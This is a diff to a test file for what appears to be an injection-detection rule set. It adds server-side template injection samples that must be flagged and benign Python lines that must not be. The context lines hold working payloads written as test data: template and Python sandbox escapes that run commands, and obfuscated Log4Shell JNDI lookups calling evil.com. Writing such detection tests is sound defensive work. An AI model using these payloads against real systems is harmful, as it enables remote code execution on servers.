@@ -22,6 +22,8 @@ describe('other rules', () => {
     ['other-010', 'ssti', '${7*7}'],
     ['other-010', 'ssti', "{% import os %}{{ os.popen('id').read() }}"],
     ['other-011', 'ssti', "''.__class__.__mro__[1].__subclasses__()"],
+    ['other-011', 'ssti', "x.__name__.__class__.__base__"],
+    ['other-011', 'ssti', "self.__class__.__name__ + ''.__class__.__bases__"],
     ['other-011', 'ssti', 'x.constructor.constructor("return process")()'],
     ['other-012', 'ssti', '${jndi:ldap://evil.com/a}'],
     ['other-012', 'ssti', '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.com/a}'],
@@ -208,6 +210,8 @@ describe('other rules', () => {
     '169.254.169.254/32',
     'assert(type(x) == int)',
     "eval('id = ' + id)",
+    'return "<{} {!r}>".format(self.__class__.__name__, self.path)',
+    "log.info(f'{self.__class__.__qualname__} started')",
   ])('leaves %j alone at paranoia 1', (input) => {
     expect(ruleIds(input)).toEqual([]);
   });
